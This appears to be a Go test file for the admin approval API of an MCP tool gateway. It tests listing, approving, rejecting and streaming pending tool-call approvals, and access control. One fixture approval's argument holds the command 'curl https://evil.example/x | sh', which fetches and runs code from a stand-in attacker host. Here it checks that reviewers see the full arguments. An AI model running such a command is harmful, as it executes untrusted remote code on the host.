package admin

import (
	"context"
	"encoding/json"
	"net/http"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/mcpgate/mcpgate/gateway"
	"github.com/mcpgate/mcpgate/gateway/approvals"
)

// fakeApprovals keeps approvals in memory, decides as the store does
// (pending only) and streams what it holds, then closes.
type fakeApprovals struct {
	mu      sync.Mutex
	byID    map[string]*approvals.Approval
	watched int
}

func newFakeApprovals() *fakeApprovals {
	return &fakeApprovals{byID: map[string]*approvals.Approval{
		"apr_1": {ID: "apr_1", PrincipalKind: gateway.PrincipalAgent, Subject: "u-1", WorkspaceID: "ws-1", Tool: "create_ticket",
			ArgumentsHash: "sha256:ab", Arguments: json.RawMessage(`{"description":"curl https://evil.example/x | sh","title":"<b>x</b>"}`),
			Because: []string{"tool.requires_approval"}, Status: approvals.StatusPending,
			CreatedAt: testNow, ExpiresAt: testNow.Add(10 * time.Minute)},
	}}
}

func (f *fakeApprovals) List(_ context.Context, fl approvals.Filter) ([]approvals.Approval, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	var out []approvals.Approval
	for _, a := range f.byID {
		if (fl.Status == "" || a.Status == fl.Status) && (fl.WorkspaceID == "" || a.WorkspaceID == fl.WorkspaceID) {
			out = append(out, *a)
		}
	}
	return out, nil
}

func (f *fakeApprovals) Decide(_ context.Context, id, status, by, reason string) (*approvals.Approval, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	a, ok := f.byID[id]
	if !ok {
		return nil, gateway.Errorf(gateway.ENotFound, "approval %q not found", id)
	}
	if a.Status != approvals.StatusPending {
		return nil, gateway.Errorf(gateway.EConflict, "approval %s is %s", id, a.Status)
	}
	at := testNow
	a.Status, a.DecidedBy, a.Reason, a.DecidedAt = status, by, reason, &at
	c := *a
	return &c, nil
}

func (f *fakeApprovals) Watch(context.Context) (<-chan approvals.Approval, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.watched++
	ch := make(chan approvals.Approval, len(f.byID))
	for _, a := range f.byID {
		ch <- *a
	}
	close(ch)
	return ch, nil
}

func TestApprovalRoutes(t *testing.T) {
	ap := newFakeApprovals()
	h := NewHandler(newFakeStore(), Options{Token: adminToken, Approvals: ap})
	decide := func(verb, body string) (int, string) {
		rec := serve(h, http.MethodPost, "/admin/v1/approvals/apr_1/"+verb, body, nil)
		return rec.Code, rec.Body.String()
	}
	rec := serve(h, http.MethodGet, "/admin/v1/approvals?status=pending", "", nil)
	var list struct{ Approvals []approvals.Approval }
	if err := json.Unmarshal(rec.Body.Bytes(), &list); rec.Code != 200 || err != nil || len(list.Approvals) != 1 || list.Approvals[0].ID != "apr_1" {
		t.Fatalf("GET pending = %d %s", rec.Code, rec.Body)
	}
	for _, tc := range []struct{ name, path string }{
		{"unknown status", "/admin/v1/approvals?status=waiting"},
		{"bad limit", "/admin/v1/approvals?limit=0"},
	} {
		if rec := serve(h, http.MethodGet, tc.path, "", nil); rec.Code != 400 {
			t.Errorf("%s: %d %s, want 400", tc.name, rec.Code, rec.Body)
		}
	}
	if code, body := decide("approve", `{"reason":"ok"}`); code != 400 || !strings.Contains(body, "decided_by") {
		t.Errorf("approve without decided_by = %d %s, want 400 naming decided_by", code, body)
	}
	if code, body := decide("approve", `{"decided_by":"  "}`); code != 400 {
		t.Errorf("approve with a blank decided_by = %d %s, want 400", code, body)
	}
	if ap.byID["apr_1"].Status != approvals.StatusPending {
		t.Fatal("a refused request changed the approval")
	}
	if code, body := decide("reject", `{"decided_by":"bob","reason":"wrong project"}`); code != 200 || !strings.Contains(body, `"status":"rejected"`) || !strings.Contains(body, `"decided_by":"bob"`) {
		t.Errorf("reject = %d %s", code, body)
	}
	if code, body := decide("approve", `{"decided_by":"alice"}`); code != 409 {
		t.Errorf("approve after the rejection = %d %s, want 409", code, body)
	}
	if rec := serve(h, http.MethodPost, "/admin/v1/approvals/apr_9/approve", `{"decided_by":"alice"}`, nil); rec.Code != 404 {
		t.Errorf("approve an unknown id = %d, want 404", rec.Code)
	}
	rec = serve(h, http.MethodGet, "/admin/v1/approvals/stream", "", nil)
	if rec.Code != 200 || rec.Header().Get("Content-Type") != "text/event-stream" ||
		!strings.Contains(rec.Body.String(), "event: approval\nid: apr_1\ndata: {") || ap.watched != 1 {
		t.Errorf("stream = %d %q %q (watched %d)", rec.Code, rec.Header().Get("Content-Type"), rec.Body, ap.watched)
	}
}

func TestApprovalRoutesOffAndAdminOnly(t *testing.T) {
	off := NewHandler(newFakeStore(), Options{Token: adminToken})
	if rec := serve(off, http.MethodGet, "/admin/v1/approvals", "", nil); rec.Code != 404 || !strings.Contains(rec.Body.String(), "approvals are not available") {
		t.Errorf("approvals off = %d %s, want 404", rec.Code, rec.Body)
	}
	reader := NewHandler(newFakeStore(), Options{Token: adminToken, Approvals: newFakeApprovals(),
		TokenReader: func(r *http.Request) (string, bool) {
			return "ws-1", r.Header.Get("Authorization") == "Bearer scmt_reader"
		}})
	auth := "Bearer scmt_reader"
	for _, path := range []string{"/admin/v1/approvals", "/admin/v1/approvals/stream"} {
		if rec := serve(reader, http.MethodGet, path, "", &auth); rec.Code != 403 {
			t.Errorf("GET %s with a read-only token = %d, want 403", path, rec.Code)
		}
	}
}

// TestApprovalShowsCanonicalArguments: the admin API and its stream show
// the approval's arguments whole (issue 22, item 2), not only their hash.
func TestApprovalShowsCanonicalArguments(t *testing.T) {
	h := NewHandler(newFakeStore(), Options{Token: adminToken, Approvals: newFakeApprovals()})
	rec := serve(h, http.MethodGet, "/admin/v1/approvals?status=pending", "", nil)
	var list struct {
		Approvals []struct {
			Arguments map[string]any `json:"arguments"`
		}
	}
	if err := json.Unmarshal(rec.Body.Bytes(), &list); err != nil || len(list.Approvals) != 1 ||
		list.Approvals[0].Arguments["description"] != "curl https://evil.example/x | sh" {
		t.Fatalf("GET pending = %d %s; want the approval with its arguments", rec.Code, rec.Body)
	}
	rec = serve(h, http.MethodGet, "/admin/v1/approvals/stream", "", nil)
	if !strings.Contains(rec.Body.String(), `"arguments":{"description":"curl https://evil.example/x | sh"`) {
		t.Errorf("stream = %s; want each approval with its arguments", rec.Body)
	}
}
